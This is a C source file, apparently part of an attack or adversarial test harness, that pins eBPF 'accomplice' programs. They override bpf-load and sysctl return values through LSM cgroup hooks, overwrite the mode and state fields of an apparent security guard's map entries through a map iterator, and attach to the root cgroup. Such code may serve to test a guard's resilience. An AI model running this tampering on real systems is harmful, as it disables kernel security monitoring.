#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

#include "attack.h"
#include "bpf.h"

static void place(enum accomplice which, char *path, size_t size)
{
	snprintf(path, size, "%s/%d", ACCOMPLICES, which);
}

static int load_accomplice(enum accomplice which)
{
	struct load on_loads = {.type = BPF_PROG_TYPE_LSM,
				.attach_type = BPF_LSM_CGROUP,
				.attach_btf_id = kernel_function("bpf_lsm_bpf_prog_load")};
	struct load on_sysctl = {.type = BPF_PROG_TYPE_CGROUP_SYSCTL, .attach_type = BPF_CGROUP_SYSCTL};
	struct load iterator = {.type = BPF_PROG_TYPE_TRACING,
				.attach_type = BPF_TRACE_ITER,
				.attach_btf_id = kernel_function("bpf_iter_bpf_map_elem")};
	struct load filter = {.type = BPF_PROG_TYPE_SOCKET_FILTER};
	switch (which) {
	case ALLOW_LOADS:
		return LOAD_CODE(&on_loads, MOV(0, 1), EXIT);
	case OVERRIDE_LOADS:
		return LOAD_CODE(&on_loads, MOV(1, 0), CALL(BPF_FUNC_set_retval), MOV(0, 1), EXIT);
	case OVERRIDE_SYSCTL:
		return LOAD_CODE(&on_sysctl, MOV(1, 0), CALL(BPF_FUNC_set_retval), MOV(0, 1), EXIT);
	case WRITE_ELEMENTS:
		/* the element is ctx->value; the first 12 bytes of struct guard_status are version, mode and state */
		return LOAD_CODE(&iterator, LOAD(BPF_DW, 2, 1, 24), JUMP_IF_ZERO(2, 2), STORE(BPF_W, 2, 4, 1),
				 STORE(BPF_W, 2, 8, 0), MOV(0, 0), EXIT);
	case DROP_PACKETS:
	case SPARE:
		return LOAD_CODE(&filter, MOV(0, 0), EXIT);
	case CALL_NEXT:
		return LOAD_CODE(&filter, MAP_FD(2, create_map(BPF_MAP_TYPE_PROG_ARRAY, 4, 4, 1, 0)), MOV(3, 0),
				 CALL(BPF_FUNC_tail_call), MOV(0, 1), EXIT);
	default:
		errno = EINVAL;
		return -1;
	}
}

int accomplice(enum accomplice which)
{
	char path[64];
	union bpf_attr attr = {0};
	place(which, path, sizeof path);
	attr.pathname = (uintptr_t)path;
	int program = bpf(BPF_OBJ_GET, &attr, sizeof attr);
	return program >= 0 || errno != ENOENT ? program : load_accomplice(which);
}

void forget(enum accomplice which)
{
	char path[64];
	place(which, path, sizeof path);
	unlink(path);
}

void prepare(void)
{
	mkdir(ACCOMPLICES, 0700);
	if (mount("bpf", ACCOMPLICES, "bpf", 0, NULL))
		perror("accomplices");
	for (enum accomplice which = 0; which < ACCOMPLICE_COUNT; which++) {
		char path[64];
		union bpf_attr attr = {0};
		place(which, path, sizeof path);
		attr.pathname = (uintptr_t)path;
		attr.bpf_fd = load_accomplice(which);
		if (bpf(BPF_OBJ_PIN, &attr, sizeof attr))
			perror(path);
	}
	/* with flags 0 a cgroup of its own would not run the programs of the root */
	int root = root_cgroup();
	mkdirat(root, "accomplices", 0755);
	if (attach(openat(root, "accomplices", O_RDONLY | O_DIRECTORY), accomplice(ALLOW_LOADS), BPF_LSM_CGROUP, 0))
		perror("attach");
}
